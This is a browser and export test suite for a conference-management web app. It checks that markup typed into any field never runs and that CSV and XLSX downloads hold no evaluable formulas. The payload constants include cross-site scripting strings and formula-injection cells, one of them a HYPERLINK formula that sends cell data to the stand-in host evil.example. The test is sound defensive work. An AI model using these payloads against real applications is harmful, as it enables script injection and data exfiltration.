"""Markup in every text a person can type, through the real UI and the API, then every
screen opened in a real Chromium: nothing runs (no `window.__pwned`, no dialog, no console
error, no injected element), and the text is shown as typed. The downloads carry the same
text as plain text, and no spreadsheet cell is a formula a spreadsheet would evaluate.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass, field

import httpx
import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from playwright.sync_api import Browser, Page, expect
from sqlmodel import Session, select

from live.db import make_engine
from live.demo import DEMO_STEPS
from live.models import Question
from tests.browser.conftest import PROJECTOR_VIEWPORT, Screens, command_ok, wait_live
from tests.conftest import Server

pytestmark = pytest.mark.browser
# Plain HTTP on loopback: no TLS context to build for each client (80 ms of CA loading).
NO_TLS = False

P_SCRIPT = "<script>window.__pwned=1</script>"
P_IMG = '<img src=x onerror="window.__pwned=1">'
P_LINK = "javascript:window.__pwned=1"
P_SVG = '"><svg onload=window.__pwned=1>'
PAYLOADS = [P_SCRIPT, P_IMG, P_LINK, P_SVG]
ALL = " ".join(PAYLOADS)
# What a spreadsheet evaluates when a cell starts with it (CSV/formula injection).
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(1,1)"]
DIALOGUE = next(i for i, s in enumerate(DEMO_STEPS, start=1) if s["kind"] == "dialogue")
GIFTS = next(i for i, s in enumerate(DEMO_STEPS, start=1) if s["kind"] == "gifts")

UNIT = f"Công đoàn {P_SVG}"
FIELD = f"Lĩnh vực {P_IMG}"
AGENCY = f"Sở {P_SCRIPT}"
GROUP = f"Khách mời {P_IMG}"
DELEGATES = [f"Nguyễn {p}" for p in PAYLOADS]  # names: at most 120 characters
IMPORTED = [f"Trần {P_SVG}", f"Lê {P_SCRIPT}"]
RECIPIENTS = [f"Gia đình {p}" for p in PAYLOADS]
PHONE_NAME = f"Đinh {P_IMG}"
PHONE_TEXT = f"Câu hỏi về lương {ALL}"
FLOOR_TEXT = f"Câu hỏi tại hội trường {ALL}"
TITLE = f"Hội nghị {ALL}"
BANNER = f"Chào mừng {ALL}"


def api(server: Server, keys: dict[str, str], role: str, name: str, args: dict) -> dict:
    response = httpx.post(
        f"{server.url}/api/e/demo/commands",
        verify=NO_TLS,
        json={"command": name, "args": args},
        headers={"Authorization": f"Bearer {keys[role]}"},
        timeout=30,
    )
    assert response.status_code == 200, (name, response.text)
    return response.json()["result"]


def xlsx(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    sheet = wb.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@dataclass
class Seeded:
    """The ids of what was made, for the steps that follow."""

    floor_question: int = 0
    formula_question: int = 0
    delegates: list[int] = field(default_factory=list)


def seed(server: Server) -> Seeded:
    """Markup (and formulas) in every list, step, person, gift, question, answer and
    commitment, through the API and the list imports."""
    keys = server.keys()
    out = Seeded()

    def admin(name: str, args: dict) -> dict:
        return api(server, keys, "admin", name, args)

    admin("conference.edit", {"venue": ALL, "organiser": ALL})
    admin("notice.issuer", {"parent": f"{P_IMG} {P_SVG}", "issuer": P_SCRIPT, "place": P_SCRIPT})
    for position in (1, DIALOGUE, GIFTS):
        admin(
            "step.edit",
            {
                "position": position,
                "title": f"Bước {position} {ALL}",
                "speaker": ALL,
                "mc_script": f"Kính thưa {ALL}\n{ALL}",
            },
        )
    admin("list.add", {"kind": "unit", "name": UNIT, "delegate_quota": 10, "gift_quota": 10})
    admin("list.add", {"kind": "field", "name": FIELD})
    admin("list.add", {"kind": "agency", "name": AGENCY})
    # A question's field and agency come from the lists: formulas reach them there too.
    admin("list.add", {"kind": "field", "name": FORMULAS[3]})
    admin("list.add", {"kind": "agency", "name": FORMULAS[1]})
    admin("list.add", {"kind": "group", "name": GROUP, "introduce": 10})

    for i, name in enumerate(DELEGATES, start=1):
        d = admin(
            "delegate.add",
            {
                "name": name,
                "position": ALL,
                "unit": UNIT,
                "group": GROUP,
                "rank": i,
                "seat": f"Z{90 + i}",
            },
        )
        out.delegates.append(d["id"])
        api(server, keys, "checkin", "delegate.checkin", {"id": d["id"], "desk": 1})
    imported = httpx.post(
        f"{server.url}/api/e/demo/delegates/import",
        verify=NO_TLS,
        files={
            "file": (
                "dai-bieu.xlsx",
                xlsx(
                    [
                        ["Họ và tên", "Chức vụ", "Đơn vị", "Thành phần", "Thứ tự", "Ghế"],
                        *[[n, ALL, UNIT, GROUP, 9, f"Z{80 + i}"] for i, n in enumerate(IMPORTED)],
                    ]
                ),
            )
        },
        headers={"Authorization": f"Bearer {keys['admin']}"},
        timeout=30,
    )
    assert imported.status_code == 200, imported.text

    for i, name in enumerate(RECIPIENTS, start=1):
        g = admin(
            "gift.add", {"name": name, "unit": UNIT, "circumstances": ALL, "value": 1_000_000}
        )
        admin("gift.move", {"id": g["id"], "to": i})
    admin("gift.batch_size", {"size": 6})
    admin("gift.presenters", {"batch": 1, "presenters": ALL})

    q = api(
        server,
        keys,
        "moderator",
        "question.add",
        {
            "text": FLOOR_TEXT,
            "asker_name": P_SCRIPT,
            "asker_position": P_LINK,
            "asker_unit": UNIT,
            "field": FIELD,
            "agency": AGENCY,
        },
    )
    out.floor_question = q["id"]
    f = api(
        server,
        keys,
        "moderator",
        "question.add",
        {
            "text": f"=1+1 {FORMULAS[0]}",
            "asker_name": FORMULAS[0],
            "asker_position": FORMULAS[2],
            "asker_unit": FORMULAS[1],
            "field": FORMULAS[3],
            "agency": FORMULAS[1],
        },
    )
    out.formula_question = f["id"]

    def secretary(name: str, args: dict) -> dict:
        return api(server, keys, "secretary", name, args)

    secretary(
        "answer.save",
        {
            "question_id": q["id"],
            "base_version": 0,
            "responder_agency": AGENCY,
            "responder_name": P_SCRIPT,
            "responder_position": P_LINK,
            "summary": f"Trả lời: {ALL}",
            "outcome": "answered",
            "referred_to": P_SVG,
        },
    )
    c = secretary(
        "commitment.add",
        {
            "question_id": q["id"],
            "task": f"Nhiệm vụ {ALL}",
            "lead_agency": AGENCY,
            "cooperating": [P_IMG, P_SVG],
            "deadline": "2020-01-31",
        },
    )
    secretary("commitment.status", {"id": c["id"], "status": "in_progress", "note": ALL})
    secretary(
        "answer.save",
        {
            "question_id": f["id"],
            "base_version": 0,
            "responder_name": FORMULAS[2],
            "summary": FORMULAS[0],
            "outcome": "in_writing",
        },
    )
    fc = secretary(
        "commitment.add",
        {
            "question_id": f["id"],
            "task": FORMULAS[0],
            "lead_agency": FORMULAS[1],
            "cooperating": [FORMULAS[2]],
            "deadline": "2030-01-31",
        },
    )
    secretary("commitment.status", {"id": fc["id"], "status": "not_started", "note": FORMULAS[3]})
    secretary("notice.edit", {"key": "opening", "text": f"Mở đầu {ALL}", "base_version": 0})
    secretary("notice.edit", {"key": f"q:{q['id']}", "text": f"Kết luận {ALL}", "base_version": 0})
    api(server, keys, "moderator", "mc.message", {"text": f"Tin cho MC {ALL}"})
    return out


# --- checking a page -------------------------------------------------------------------------

INERT_JS = """
() => ({
  pwned: typeof window.__pwned !== "undefined",
  scripts: [...document.scripts].filter((s) => s.textContent.includes("__pwned")).length,
  handlers: document.querySelectorAll("[onerror], [onload]").length,
  images: document.querySelectorAll('img[src="x"]').length,
  links: document.querySelectorAll(
    '[href^="javascript:" i], [src^="javascript:" i], [action^="javascript:" i]'
  ).length,
  text: document.body.innerText,
  html: document.documentElement.outerHTML.length,
})
"""


@dataclass
class Visits:
    """Every page checked, and the dialogs any of them opened."""

    dialogs: list[str] = field(default_factory=list)
    seen: dict[str, str] = field(default_factory=dict)

    def watch(self, page: Page, name: str) -> Page:
        def on_dialog(dialog) -> None:  # type: ignore[no-untyped-def]
            self.dialogs.append(f"{name}: {dialog.type} {dialog.message}")
            dialog.dismiss()

        page.on("dialog", on_dialog)
        return page

    def check(self, page: Page, name: str, *shown: str) -> None:
        """Nothing ran on `page`, nothing was injected, and each of `shown` is on it as
        text (compared without case: the projector sets some titles in capitals)."""
        page.wait_for_timeout(150)  # let an injected handler (there must be none) fire
        found = page.evaluate(INERT_JS)
        text = found.pop("text")
        found.pop("html")
        assert found == {"pwned": False, "scripts": 0, "handlers": 0, "images": 0, "links": 0}, (
            name,
            found,
        )
        for s in shown:
            assert s.lower() in text.lower(), f"{name}: {s!r} not shown as text"
        self.seen[name] = text
        assert not self.dialogs, self.dialogs


def open_screen(screens: Screens, visits: Visits, screen: str, role: str | None = None) -> Page:
    page = screens.open(screen, role=role)
    return visits.watch(page, screen)


def goto(page: Page, url: str, live: bool = True) -> None:
    response = page.goto(url)
    assert response is not None and response.status == 200, (url, response and response.status)
    if live:
        wait_live(page)


def test_markup_typed_anywhere_never_runs_on_any_screen(screens: Screens) -> None:
    server = screens.server
    seeded = seed(server)
    visits = Visits()

    # Through the real UI: the conference's title and banner on the admin screen.
    admin = open_screen(screens, visits, "admin")
    admin.locator("form[data-command='conference.edit'] input[name=title]").fill(TITLE)
    admin.locator("form[data-command='conference.edit'] textarea[name=banner]").fill(BANNER)
    admin.get_by_role("button", name="Lưu thông tin").click()
    expect(admin.locator("form[data-command='conference.edit'] input[name=title]")).to_have_value(
        TITLE
    )
    # …and a delegate's question from the public page, as a phone sends it.
    phone = visits.watch(screens.new_page("ask"), "ask")
    goto(phone, f"{server.url}/e/demo/ask", live=False)
    phone.locator("input[name=asker_name]").fill(PHONE_NAME)
    phone.locator("input[name=asker_unit]").fill(UNIT)
    phone.locator("input[name=asker_position]").fill(P_LINK)
    phone.locator("textarea[name=text]").fill(PHONE_TEXT)
    with phone.expect_navigation():
        phone.get_by_role("button", name="Gửi câu hỏi").click()
    sent = phone.locator(".ask-sent")
    expect(sent).to_be_visible()
    number = int(re.findall(r"\d+", sent.inner_text())[0])
    visits.check(phone, "ask (sent)")
    state = httpx.get(
        f"{server.url}/api/e/demo/state",
        verify=NO_TLS,
        headers={"Authorization": f"Bearer {screens.key('mc')}"},
    ).json()
    assert state["title"] == TITLE

    mc = open_screen(screens, visits, "mc")
    projector = visits.watch(screens.open("projector", viewport=PROJECTOR_VIEWPORT), "projector")
    visits.check(projector, "projector (welcome banner)", BANNER)

    # Step 1: the MC reads the introduction of the dignitaries present.
    command_ok(server, "step.goto", {"position": 1})
    expect(mc.locator("body")).to_contain_text(DELEGATES[0])
    visits.check(
        mc,
        "mc (step 1)",
        f"Bước 1 {ALL}",
        f"Kính thưa {ALL}",
        *DELEGATES,
        GROUP,
        f"Tin cho MC {ALL}",
    )
    visits.check(projector, "projector (step 1)", f"Bước 1 {ALL}")

    # The dialogue: the phone question is approved, goes to microphone 1 and is live;
    # the floor question waits at microphone 2. Every screen gets it as a push.
    moderator = open_screen(screens, visits, "moderator")
    runner = open_screen(screens, visits, "mic/1", role="mic")
    secretary = open_screen(screens, visits, "secretary")
    command_ok(server, "step.goto", {"position": DIALOGUE})
    pending = question_id(server, number)
    for name, args in (
        ("question.approve", {"id": pending}),
        ("question.assign", {"id": pending, "mic": 1}),
        ("question.live", {"id": pending}),
        ("question.assign", {"id": seeded.floor_question, "mic": 2}),
    ):
        response = server.command(name, args, role="moderator")
        assert response.status_code == 200, response.text
    expect(projector.locator("body")).to_contain_text(PHONE_TEXT)
    visits.check(projector, "projector (dialogue)", PHONE_TEXT, PHONE_NAME)
    visits.check(mc, "mc (dialogue)", f"Bước {DIALOGUE} {ALL}")
    expect(moderator.locator("body")).to_contain_text(PHONE_TEXT)
    visits.check(moderator, "moderator", PHONE_TEXT, PHONE_NAME, FLOOR_TEXT)
    expect(runner.locator("body")).to_contain_text(PHONE_NAME)
    visits.check(runner, "mic/1", PHONE_NAME)
    expect(secretary.locator("body")).to_contain_text(PHONE_TEXT)
    visits.check(secretary, "secretary (live question)", PHONE_TEXT)
    goto(secretary, f"{server.url}/e/demo/secretary/{seeded.floor_question}")
    visits.check(secretary, "secretary (answered question)", FLOOR_TEXT, f"Kết luận {ALL}")
    assert secretary.locator("textarea[name=summary]").input_value() == f"Trả lời: {ALL}"

    # The gifts: the first batch on the projector, its presenters, the MC's panel.
    command_ok(server, "step.goto", {"position": GIFTS})
    command_ok(server, "gift.show", {"batch": 1})
    expect(projector.locator("body")).to_contain_text(RECIPIENTS[0])
    visits.check(projector, "projector (gifts)", *RECIPIENTS, ALL)
    visits.check(mc, "mc (gifts)", *RECIPIENTS)

    for screen, role, shown in (
        ("checkin", "checkin", [*DELEGATES, *IMPORTED]),
        ("gifts", "checkin", [*RECIPIENTS, ALL]),
        ("followup", "secretary", [f"Nhiệm vụ {ALL}", AGENCY, ALL]),
    ):
        visits.check(open_screen(screens, visits, screen, role=role), screen, *shown)
    goto(admin, f"{server.url}/e/demo/admin")
    visits.check(admin, "admin", UNIT, FIELD, AGENCY, GROUP, *RECIPIENTS, f"Bước 1 {ALL}")
    assert admin.locator("input[name=title]").first.input_value() == TITLE

    for name, shown in (
        ("badges", [*DELEGATES, *IMPORTED]),
        ("placards", DELEGATES),
        ("seats", DELEGATES),
        ("gifts", RECIPIENTS),
    ):
        goto(admin, f"{server.url}/e/demo/print/{name}", live=False)
        visits.check(admin, f"print/{name}", *shown)
    goto(secretary, f"{server.url}/e/demo/notice", live=False)
    visits.check(secretary, "notice", f"Mở đầu {ALL}", f"Kết luận {ALL}", f"Nhiệm vụ {ALL}")
    goto(phone, f"{server.url}/e/demo/ask", live=False)
    visits.check(phone, "ask", TITLE)
    goto(admin, f"{server.url}/", live=False)
    visits.check(admin, "start page", TITLE)

    assert not visits.dialogs, visits.dialogs
    screens.assert_no_errors()


def test_the_check_catches_markup_that_runs(browser: Browser) -> None:
    """The check above is not blind: on a page where the markup is live, it fails."""
    page = browser.new_page()
    try:
        page.set_content(f"<p>{P_IMG}</p>{P_SCRIPT}")
        with pytest.raises(AssertionError, match="pwned"):
            Visits().check(page, "markup left live")
    finally:
        page.close()


def question_id(server: Server, number: int) -> int:
    """The id of question `number` (what a phone is told), from the server's database."""
    with Session(make_engine(server.database_url)) as s:
        q = s.exec(select(Question).where(Question.number == number)).one()
        assert q.id is not None
        return q.id


# --- the downloads -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def seeded_exports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The four downloads of a conference seeded as above (one server for the module)."""
    root = tmp_path_factory.mktemp("exports")
    server = Server(db_path=root / "live.db", media_dir=root / "media")
    server.start()
    try:
        seed(server)
        key = server.keys()["secretary"]
        files = {}
        for name in ("notice.docx", "minutes.xlsx", "minutes.csv", "followup.xlsx"):
            response = httpx.get(
                f"{server.url}/api/e/demo/{name}",
                verify=NO_TLS,
                headers={"Authorization": f"Bearer {key}"},
                timeout=30,
            )
            assert response.status_code == 200, (name, response.text)
            files[name] = response.content
    finally:
        server.stop()
    return files


def docx_text(data: bytes) -> str:
    doc = Document(io.BytesIO(data))
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        for row in table.rows:
            parts += [cell.text for cell in row.cells]
    for section in doc.sections:
        parts += [p.text for p in section.header.paragraphs + section.footer.paragraphs]
    return "\n".join(parts)


def xlsx_cells(data: bytes) -> list[tuple[str, object, str]]:
    """(where, value, openpyxl's data type: "f" for a formula) of every cell."""
    wb = load_workbook(io.BytesIO(data))  # not data_only: formulas stay formulas
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in wb.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def csv_cells(data: bytes) -> list[tuple[str, str]]:
    text = data.decode("utf-8-sig")
    return [
        (f"line {i} col {j}", value)
        for i, row in enumerate(csv.reader(io.StringIO(text)), start=1)
        for j, value in enumerate(row, start=1)
    ]


def test_exports_carry_the_markup_as_plain_text(seeded_exports: dict[str, bytes]) -> None:
    notice = docx_text(seeded_exports["notice.docx"])
    # The notice writes each commitment as "Giao … chủ trì, … nhiệm vụ …" (lower case).
    for text in (f"Mở đầu {ALL}", f"Kết luận {ALL}", f"nhiệm vụ {ALL}", AGENCY, P_IMG, P_SVG):
        assert text in notice, f"notice.docx lacks {text!r}"
    minutes = "\n".join(str(v) for _, v, _ in xlsx_cells(seeded_exports["minutes.xlsx"]))
    csv_text = "\n".join(v for _, v in csv_cells(seeded_exports["minutes.csv"]))
    followup = "\n".join(str(v) for _, v, _ in xlsx_cells(seeded_exports["followup.xlsx"]))
    for text in (FLOOR_TEXT, P_SCRIPT, UNIT, FIELD, AGENCY, f"Trả lời: {ALL}", f"Nhiệm vụ {ALL}"):
        assert text in minutes, f"minutes.xlsx lacks {text!r}"
        assert text in csv_text, f"minutes.csv lacks {text!r}"
    for text in (f"Nhiệm vụ {ALL}", AGENCY, P_IMG, P_SVG, ALL):
        assert text in followup, f"followup.xlsx lacks {text!r}"
    for formula in FORMULAS:  # what a spreadsheet would evaluate is there, as text
        assert formula in minutes + followup and formula in csv_text, formula


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("name", ["minutes.xlsx", "followup.xlsx"])
def test_xlsx_exports_hold_no_formulas(seeded_exports: dict[str, bytes], name: str) -> None:
    # A cell stored as text (t="s") is shown as text even when it reads "=…"; only a
    # formula cell (t="f"… openpyxl's "f") is evaluated.
    evaluated = [
        (where, value) for where, value, kind in xlsx_cells(seeded_exports[name]) if kind == "f"
    ]
    assert any(
        isinstance(value, str) and value.startswith("=")
        for _, value, _ in xlsx_cells(seeded_exports[name])
    ), "the hostile text is kept, as text"
    assert not evaluated, f"{name}: cells a spreadsheet evaluates: {evaluated}"


def test_csv_export_neutralises_formula_prefixes(seeded_exports: dict[str, bytes]) -> None:
    evaluated = [
        (where, value)
        for where, value in csv_cells(seeded_exports["minutes.csv"])
        if value.startswith(FORMULA_START)
    ]
    assert not evaluated, f"minutes.csv: fields a spreadsheet evaluates: {evaluated}"
